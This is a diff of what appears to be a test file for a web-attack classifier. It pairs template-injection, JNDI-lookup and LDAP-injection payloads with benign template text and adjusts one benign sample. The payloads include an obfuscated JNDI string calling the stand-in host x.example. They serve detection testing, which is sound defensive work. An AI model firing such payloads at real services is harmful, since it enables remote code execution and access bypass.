@@ -54,7 +54,7 @@ def test_the_case_file_covers_each_interpreter_and_benign_text() -> None:
     [
         ("{{7*7}}", "webattack.ssti", "{{ order.total }}"),
         ("${{9*9}}", "webattack.ssti", "${subtotal + shipping}"),
-        ("{{''.__class__.__mro__[1]}}", "webattack.ssti", "{{ user.__class__ }}"),
+        ("{{''.__class__.__mro__[1]}}", "webattack.ssti", "{{ user.class_name }}"),
         ("{{['id']|map('system')}}", "webattack.ssti", "{{ rows|map(attribute='id') }}"),
         ("${${lower:j}ndi:ldap://x.example/a}", "webattack.ssti", "${HOME}/${USER}"),
         ("*)(uid=*))(|(uid=*", "webattack.ldap", "(&(uid=*)(mail=*))"),
